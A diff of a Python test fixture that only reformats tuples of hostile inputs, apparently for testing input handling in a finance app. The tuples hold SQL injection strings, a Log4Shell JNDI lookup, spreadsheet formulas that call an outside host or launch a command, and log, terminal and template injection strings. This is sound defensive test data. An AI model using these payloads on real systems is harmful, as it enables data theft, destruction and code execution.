@@ -16,8 +16,18 @@ Disguise = Callable[[str], str]
 
 _SQL = (
     *("' OR '1'='1", "'; DROP TABLE users; --", '"; DELETE FROM postings; --'),
-    *("1); UPDATE accounts SET balance_kobo = 9e9; --", "' UNION SELECT * FROM pins --"),
-    *("%(id)s", "%s%s%s%n", "$1", "{0}", "${jndi:ldap://x}", "\\'; SELECT pg_sleep(9);--"),
+    *(
+        "1); UPDATE accounts SET balance_kobo = 9e9; --",
+        "' UNION SELECT * FROM pins --",
+    ),
+    *(
+        "%(id)s",
+        "%s%s%s%n",
+        "$1",
+        "{0}",
+        "${jndi:ldap://x}",
+        "\\'; SELECT pg_sleep(9);--",
+    ),
     *("admin'--", "') OR ('a'='a", "0x27206F722031", "; COPY users TO PROGRAM 'sh'"),
     *("' || pg_sleep(9) || '", "\\x00' OR 1=1", "E'\\\\047 OR 1=1", "$$; SELECT 1; $$"),
     *("/* */ OR 1=1", "NULL", "%' AND 1=0 UNION ALL SELECT hash FROM pins; --"),
@@ -25,12 +35,30 @@ _SQL = (
 _FORMULAS = (
     *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"),
     *("=HYPERLINK(http://x?A1)", '=IMPORTXML("http://x","//a")', "=WEBSERVICE(A1)"),
-    *("＝1+1", "＋1", "－1", "＠A1", "\x00=1", " =1+1", '"=1+1', "'=1+1", ";=1+1", ",=1"),
+    *(
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠A1",
+        "\x00=1",
+        " =1+1",
+        '"=1+1',
+        "'=1+1",
+        ";=1+1",
+        ",=1",
+    ),
     *("\n=1+1", "=1\n=2", "|=1", "%0A=1", "\u00a0=1"),
 )
 _LINES = (
     *('ok"}\n{"level": "info", "event": "fake"}', "a\r\nb", "\x1b[31mred\x1b[0m"),
-    *("\x1b]0;title\x07", "\u2028next", "\u2029next", "\x85next", "\x0bnext", "\x0cnext"),
+    *(
+        "\x1b]0;title\x07",
+        "\u2028next",
+        "\u2029next",
+        "\x85next",
+        "\x0bnext",
+        "\x0cnext",
+    ),
     *("a\x00b", "\b\b\b\b", "\u202egnp.exe", "%0d%0aSet-Cookie: a=b", "\\n\\r", '"}'),
     *("{{7*7}}", "${7*7}", "<!--#exec cmd=ls-->", "\ud7ff\ue000", "\x9b31m"),
 )
